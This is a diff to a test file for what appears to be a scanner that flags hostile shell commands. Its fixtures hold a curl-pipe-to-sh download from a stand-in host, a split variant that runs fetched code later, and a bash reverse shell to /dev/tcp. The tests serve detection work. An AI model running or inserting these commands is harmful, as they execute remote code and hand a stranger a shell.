@@ -71,10 +71,14 @@ describe('what stands in a vast program', () => {
   const sends = 'curl -sSL https://files.strangers.test/in.sh | sh\n'
   const opens = 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n'
 
-  it('is a warning by itself, and blocks beside something grave in another place', () => {
-    expect(verdictsOf({ 'scripts/weigh.sh': `${filler}${sends}` })).toBe('warn block')
-    expect(verdictsOf({ 'scripts/weigh.sh': `${filler}${sends}${opens}` })).toBe('block block')
-    expect(verdictsOf({ 'scripts/weigh.sh': sends })).toBe('block block')
+  it('blocks where it stands in one place', () => {
+    expect(verdictsOf({ 'scripts/weigh.sh': `${filler}${sends}` })).toBe('block block')
+  })
+
+  it('is a warning by itself where it is put together from places apart, and blocks beside something grave', () => {
+    const far = `d=$(curl -s https://files.strangers.test/in.sh)\n${filler}sh -c "$d"\n`
+    expect(verdictsOf({ 'scripts/weigh.sh': far })).toBe('warn block')
+    expect(verdictsOf({ 'scripts/weigh.sh': `${far}${opens}` })).toBe('block block')
   })
 
   it('blocks where the rule is sure', () => {
